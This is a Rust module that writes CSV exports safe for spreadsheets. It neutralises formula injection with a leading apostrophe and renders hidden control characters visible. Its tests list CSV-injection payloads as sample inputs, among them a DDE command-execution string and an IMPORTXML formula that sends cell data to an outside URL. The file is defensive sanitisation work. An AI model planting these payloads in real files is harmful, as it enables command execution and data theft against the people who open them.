//! Rows as CSV for a spreadsheet. For a program there is JSON: here a text may be changed, so that no cell
//! is taken for a formula and none holds a control character.

use super::ExportError;
use super::row::{Cell, Column, Row};
use crate::sanitize::is_hostile;

/// Tells a spreadsheet that UTF-8 follows.
const BYTE_ORDER_MARK: char = '\u{FEFF}';

/// A column without values, whose head says what was done, for a file in which any cell was changed: one that holds
/// none has the columns that were asked for and nothing else.
pub(super) const COMMENT: Column = Column {
    name: "An apostrophe in front of a text keeps a spreadsheet from computing it and is not part of it",
    cell: |_| Cell::Nothing,
};

/// Whether any cell of a row gets an apostrophe.
pub(super) fn is_changed(row: &Row, columns: &[Column]) -> bool {
    columns.iter().any(|column| needs_apostrophe(&shown(&(column.cell)(row).text())))
}

/// The mark and the line of names.
pub(super) fn head(columns: &[Column]) -> String {
    let names = columns.iter().map(|column| column.name.to_owned());
    format!("{BYTE_ORDER_MARK}{}", line(names))
}

/// One row, its line end included.
#[expect(clippy::unnecessary_wraps, reason = "every format has a writer of this shape")]
pub(super) fn line_of(row: &Row, columns: &[Column]) -> Result<String, ExportError> {
    Ok(line(columns.iter().map(|column| (column.cell)(row).text())))
}

fn line(cells: impl Iterator<Item = String>) -> String {
    let quoted: Vec<String> = cells.map(|cell| quote(&harmless(&cell))).collect();
    quoted.join(",") + "\r\n"
}

fn quote(cell: &str) -> String {
    format!("\"{}\"", cell.replace('"', "\"\""))
}

/// A cell that no spreadsheet computes: one that begins like a formula, on any of its lines, gets an
/// apostrophe in front; a plain number stays one. Controls and marks of direction become visible.
fn harmless(cell: &str) -> String {
    let mut shown = shown(cell);
    if needs_apostrophe(&shown) {
        shown.insert(0, '\'');
    }
    shown
}

fn shown(cell: &str) -> String {
    let mut shown = String::with_capacity(cell.len() + 1);
    for c in cell.chars() {
        match c {
            '\t' | '\n' | '\r' => shown.push(c),
            c if is_hostile(c) => shown.push_str(&crate::sanitize::sanitize_line(c.encode_utf8(&mut [0; 4]))),
            c => shown.push(c),
        }
    }
    shown
}

fn needs_apostrophe(shown: &str) -> bool {
    let begins_with_control = shown.starts_with(['\t', '\r', '\n']);
    let like_formula = |line: &str| line.trim_start().starts_with(FORMULA_SIGNS);
    begins_with_control || (shown.split(['\r', '\n']).any(like_formula) && !is_plain_number(shown))
}

/// What a formula can begin with, in half and in full width.
const FORMULA_SIGNS: [char; 8] = ['=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];

/// Digits with a sign, a fraction and an exponent, and nothing else.
fn is_plain_number(text: &str) -> bool {
    let all_digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let (mantissa, exponent) = split(unsigned(text), ['e', 'E']);
    let (whole, fraction) = split(mantissa, ['.', '.']);
    all_digits(whole)
        && fraction.is_none_or(all_digits)
        && exponent.is_none_or(|exponent| all_digits(unsigned(exponent)))
}

fn unsigned(text: &str) -> &str {
    text.strip_prefix(['+', '-']).unwrap_or(text)
}

fn split(text: &str, at: [char; 2]) -> (&str, Option<&str>) {
    text.split_once(at).map_or((text, None), |(before, after)| (before, Some(after)))
}

#[cfg(test)]
mod tests {
    use super::super::{COLUMNS, MARK_COLUMNS};
    use super::*;

    #[test]
    fn no_cell_begins_like_a_formula() {
        for payload in [
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x\",\"y\")",
            "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")",
            "\t=1",
            "\r=1",
            "\n=1",
            "\tplain",
            "\rplain",
            "\nplain",
            " =1+1",
            "   +1+1",
            "\u{a0}=1+1",
            "\u{3000}@x",
            "\u{ff1d}1+1",
            "\u{ff0b}1",
            "\u{ff0d}1",
            "\u{ff20}x",
            "first\n=1+1",
            "first\r\n@x",
            "first\r +x",
            "first\n\u{ff1d}1",
            "-",
            "--1",
            "-1-1",
            "+1e",
            "-1.",
            "=",
            "-2\n=1",
        ] {
            let cell = harmless(payload);
            assert!(cell.starts_with('\''), "{payload:?} became {cell:?}");
            assert_eq!(&cell[1..], payload, "nothing else changes");
        }
    }

    #[test]
    fn what_is_harmless_stays() {
        for text in
            ["", "a=b", "plain text", "-1", "+1", "-12.50", "1e5", "-1.5E-10", "上线", "a\nb", "'=1", "'"]
        {
            assert_eq!(harmless(text), text);
        }
    }

    #[test]
    fn hostile_characters_become_visible_before_signs_are_looked_for() {
        assert_eq!(harmless("\u{1b}[2J"), "\\x1b[2J");
        assert_eq!(harmless("a\u{202e}b\u{0}"), "a\\u{202e}b\\x00");
        assert_eq!(harmless("\u{200b}=1"), "\\u{200b}=1");
    }

    #[test]
    fn every_cell_is_quoted_and_every_line_ends_alike() {
        let cells = ["a", "b \"c\"", "d,e", "f\ng"].map(str::to_owned);
        assert_eq!(line(cells.into_iter()), "\"a\",\"b \"\"c\"\"\",\"d,e\",\"f\ng\"\r\n");
        assert!(head(COLUMNS).starts_with("\u{feff}\"kind\",\"event\",\"id\""));
        assert!(head(COLUMNS).ends_with("\"problems\"\r\n"));
        assert!(head(MARK_COLUMNS).ends_with("\"bookmark\",\"colour\",\"note\"\r\n"));
    }
}
